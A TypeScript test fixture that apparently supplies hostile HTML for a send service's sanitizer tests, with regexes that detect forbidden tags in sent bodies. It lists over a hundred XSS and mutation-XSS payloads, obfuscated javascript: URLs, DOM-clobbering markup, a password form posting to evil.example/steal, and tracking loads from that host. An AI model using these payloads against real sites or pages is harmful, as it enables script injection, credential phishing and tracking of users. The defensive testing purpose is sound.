// Hostile HTML of our own for the send tests (test/e2e/send-as-seen.spec.ts), beside the
// sandbox's seeded corpus (server/sandbox/seed/hostile-html.ts): event handlers, URLs, forms,
// styles, SVG/MathML and mutation tricks. Every vector that could run calls alert('v…').

const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
  'onbegin',
  'onauxclick',
];
const handlerTags = [
  'img src=x',
  'body',
  'div',
  'a href="https://example.com"',
  'input autofocus',
  'details open',
];
const handlerVectors = handlers.flatMap((handler, i) =>
  handlerTags
    .filter((_, j) => (i + j) % 2 === 0)
    .map((tag) => `<${tag} ${handler}="alert('v-${handler}')">x</${tag.split(' ')[0]}>`),
);

const schemes = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(2)',
  ' javascript:alert(3)',
  'java\tscript:alert(4)',
  '&#106;avascript:alert(5)',
  '&#x6A;avascript:alert(6)',
  'javascript&colon;alert(7)',
  'vbscript:msgbox(8)',
  'data:text/html,<script>alert(9)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxMCk8L3NjcmlwdD4=',
  '//evil.example/x',
  'http://evil.example/plain-http',
];
const urlVectors = schemes.flatMap((url) => [
  `<a href="${url}">link</a>`,
  `<img src="${url}">`,
  `<area href="${url}">`,
  `<iframe src="${url}"></iframe>`,
]);

const formVectors = [
  `<form action="https://evil.example/steal"><input name="password" type="password"><button>Log in</button></form>`,
  `<form><button formaction="javascript:alert('v-formaction')">x</button></form>`,
  `<input type="image" src="https://evil.example/i.png">`,
  `<select><option>pick</option></select><textarea>typed</textarea>`,
  `<isindex action="https://evil.example" type="image">`,
  `<form id="f"></form><button form="f" formaction="https://evil.example">go</button>`,
  `<keygen autofocus onfocus="alert('v-keygen')">`,
  `<fieldset><legend>Log in</legend><input name="user"></fieldset>`,
];

const styleVectors = [
  `<style>@import url(https://evil.example/x.css)</style>`,
  `<p style="background:url(https://evil.example/bg.png)">styled</p>`,
  `<div style="position:fixed;inset:0;background:red">cover</div>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<p style="behavior:url(x.htc)">ie</p>`,
  `<div style="width: expression(alert('v-expression'))">old ie</div>`,
  `<table background="https://evil.example/t.png"><tr><td>cell</td></tr></table>`,
  `<body background="https://evil.example/b.png">`,
  `<img srcset="https://evil.example/a.png 1x">`,
  `<video poster="https://evil.example/p.png"></video>`,
];

const svgMathVectors = [
  `<svg onload="alert('v-svg')"></svg>`,
  `<svg><script>alert('v-svg-script')</script></svg>`,
  `<svg><a xlink:href="javascript:alert('v-xlink')"><text y="20">x</text></a></svg>`,
  `<svg><animate onbegin="alert('v-animate')" attributeName="x" dur="1s"></animate></svg>`,
  `<svg><set attributeName="href" to="javascript:alert('v-set')"></set></svg>`,
  `<svg><foreignObject><img src=x onerror="alert('v-foreign')"></foreignObject></svg>`,
  `<svg><image href="https://evil.example/i.svg"></image></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"></use></svg>`,
  `<math><mi xlink:href="javascript:alert('v-math')">x</mi></math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:alert('v-maction')">x</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="alert('v-mglyph')">`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert('v-h1')>">`,
];

const mutationVectors = [
  `<noscript><p title="</noscript><img src=x onerror=alert('v-noscript')>"></noscript>`,
  `<xmp><img src=x onerror="alert('v-xmp')"></xmp>`,
  `<noembed><img title="</noembed><img src onerror=alert('v-noembed')>"></noembed>`,
  `<noframes><img title="</noframes><img src onerror=alert('v-noframes')>"></noframes>`,
  `<template><img src=x onerror="alert('v-template')"></template>`,
  `<listing>&lt;img src=x onerror=alert('v-listing')&gt;</listing>`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert('v-svgp')>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('v-formmath')>`,
  `<a href="https://example.com" id="x" name="body">clobber</a><img name="getElementById">`,
  `<iframe srcdoc="<script>alert('v-srcdoc')</script>"></iframe>`,
  `<object data="javascript:alert('v-object')"></object><embed src="javascript:alert('v-embed')">`,
  `<base href="https://evil.example/"><a href="/help">relative</a>`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert('v-meta')">`,
  `<script>alert('v-script')</script><p>after</p>`,
  `<scr<script>ipt>alert('v-split')</scr</script>ipt>`,
  `<img src="x" alt="\`" onerror="alert('v-backtick')">`,
  `<a href="https://example.com" target="_top" rel="opener">opener</a>`,
  `<div data-x="1" aria-label="ok" dir="rtl">attributes</div>`,
];

/** At least 100 vectors of our own, each a short HTML string. */
export const hostileVectors: readonly string[] = [
  ...handlerVectors,
  ...urlVectors,
  ...formVectors,
  ...styleVectors,
  ...svgMathVectors,
  ...mutationVectors,
];

/**
 * What a body the service received must never carry. Text in it is escaped (`&lt;`), so each
 * pattern looks inside real tags only: a quote may well say "javascript:" as text.
 */
export const FORBIDDEN_IN_BODY: readonly [string, RegExp][] = [
  ['a script', /<script/i],
  ['an event handler', /<[^>]*\son[a-z]+\s*=/i],
  ['a javascript: URL', /<[^>]*(javascript|vbscript):|<[^>]*&#x?0*6a;?avascript/i],
  ['a form', /<(form|input|button|select|textarea)\b/i],
  ['an outside image', /<[^>]*\s(src|srcset|background|poster)\s*=\s*["']?(https?:)?\/\/|<[^>]*url\(/i],
  ['an embedded document', /<(iframe|object|embed|frame|base|meta|link|style|svg|math)\b/i],
];
